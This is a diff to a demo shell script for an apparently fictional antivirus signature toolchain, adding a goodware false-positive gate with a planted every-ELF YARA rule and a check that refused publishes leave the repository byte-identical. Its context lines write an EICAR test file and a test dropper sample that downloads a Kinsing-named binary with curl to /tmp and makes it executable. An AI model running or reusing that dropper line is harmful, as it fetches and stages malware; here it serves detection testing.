@@ -29,6 +29,14 @@ mkdir -p "$work"
 # Reproducible builds: the database records the commit time, not the wall clock.
 export SOURCE_DATE_EPOCH="${SOURCE_DATE_EPOCH:-$(git log -1 --format=%ct 2>/dev/null || echo 0)}"
 
+# Runs a command that must exit with the given code (vigil-scan exits 1 when it finds something
+# and 0 when not, as clamscan does; the release gate exits 1 or 5 when it refuses).
+expect_rc() {
+  local want=$1 rc=0; shift
+  "$@" || rc=$?
+  [ "$rc" -eq "$want" ] || { echo "expected exit $want, got $rc: $*" >&2; exit 1; }
+}
+
 echo "== keygen (throwaway demo key; real keys: see keys/README.md)"
 "$bin" keygen -o "$work/keys"
 
@@ -38,6 +46,30 @@ echo "== lint rules-src/"
 echo "== release gate 1: per-signature tests (each signature's positive and near-miss samples)"
 "$bin" test --require-coverage rules-src
 
+echo "== release gate 2: goodware check (false positives, per-rule cost) on a small goodware set"
+mkdir -p "$work/goodware"
+for f in /usr/bin/ls /usr/bin/cat /usr/bin/grep /usr/bin/sed /usr/bin/tar /usr/bin/gzip \
+         /usr/bin/bash /usr/bin/env /etc/services /etc/protocols /etc/passwd; do
+  if [ -f "$f" ]; then cp "$f" "$work/goodware/"; fi
+done
+"$bin" check --rules rules-src --goodware "$work/goodware" --progress never
+echo "-- a planted false-positive rule (it matches every ELF file): the gate catches it (exit 1)"
+cp -r rules-src "$work/rules-planted"
+cat > "$work/rules-planted/yara/planted_every_elf.yar" <<'RULE'
+rule Planted_Every_Elf_1
+{
+    meta:
+        severity = "high"
+        description = "planted false positive: matches every ELF file"
+        author = "vigil demo"
+        reference = "https://example.invalid/planted"
+        date = "2026-12-01"
+    condition:
+        uint32(0) == 0x464c457f
+}
+RULE
+expect_rc 1 "$bin" check --rules "$work/rules-planted" --goodware "$work/goodware" --progress never
+
 echo "== build version 1"
 "$bin" build --rules rules-src --key "$work/keys/vigil.key" --version 1 -o "$work/vigil-1.vdb"
 "$bin" verify --pubkey "$work/keys/vigil.pub" "$work/vigil-1.vdb"
@@ -45,7 +77,17 @@ echo "== build version 1"
 
 echo "== create a TUF repository (directory) and publish version 1"
 "$bin" repo init --repo "$work/repo" --tuf-keys "$work/tuf"
-"$bin" publish --repo "$work/repo" --tuf-keys "$work/tuf" --db "$work/vigil-1.vdb"
+"$bin" publish --repo "$work/repo" --tuf-keys "$work/tuf" --db "$work/vigil-1.vdb" \
+  --goodware "$work/goodware" --pubkey "$work/keys/vigil.pub"
+
+echo "== publish runs the gate: a release carrying the planted rule is refused (exit 5), nothing written"
+"$bin" build --rules "$work/rules-planted" --key "$work/keys/vigil.key" --version 2 -o "$work/vigil-planted.vdb"
+repo_state() { (cd "$work/repo" && find . -type f -print0 | sort -z | xargs -0 sha256sum); }
+before=$(repo_state)
+expect_rc 5 "$bin" publish --repo "$work/repo" --tuf-keys "$work/tuf" --db "$work/vigil-planted.vdb" \
+  --goodware "$work/goodware" --pubkey "$work/keys/vigil.pub"
+[ "$(repo_state)" = "$before" ] || { echo "a refused publish changed the repository" >&2; exit 1; }
+echo "-- the repository is byte-identical"
 
 echo "== serve it with vigil-server on 127.0.0.1"
 port_free() { ! (exec 3<>"/dev/tcp/127.0.0.1/$1") 2>/dev/null; }
@@ -83,11 +125,6 @@ echo "== scan samples/ and EICAR with the installed version 1"
 # EICAR is written here rather than committed, so no antivirus flags the repository.
 printf '%s' 'X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*' > "$work/samples/eicar.com"
 printf 'curl -s http://203.0.113.9/kinsing -o /tmp/kdevtmpfsi && chmod +x /tmp/kdevtmpfsi\n' > "$work/samples/dropper.sh"
-expect_rc() { # vigil-scan exits 1 when it finds something and 0 when not, as clamscan does
-  local want=$1 rc=0; shift
-  "$@" || rc=$?
-  [ "$rc" -eq "$want" ] || { echo "expected exit $want, got $rc: $*" >&2; exit 1; }
-}
 expect_rc 1 "$scan" -d "$work/client/db/vigil.vdb" --pubkey "$work/keys/vigil.pub" -r samples "$work/samples/eicar.com"
 
 echo "== start the agent: vigil-agent (scan service on $work/client/vigil.sock)"
@@ -120,7 +157,8 @@ rule Linux_Miner_Kinsing_1
 }
 RULE
 "$bin" build --rules "$work/rules-v2" --key "$work/keys/vigil.key" --version 2 -o "$work/vigil-2.vdb"
-"$bin" publish --repo "$work/repo" --tuf-keys "$work/tuf" --db "$work/vigil-2.vdb"
+"$bin" publish --repo "$work/repo" --tuf-keys "$work/tuf" --db "$work/vigil-2.vdb" \
+  --goodware "$work/goodware" --pubkey "$work/keys/vigil.pub"
 # vigil-server keeps timestamp.json in memory for up to a second (metadata_cache_ms), like a CDN.
 sleep 1.5
 
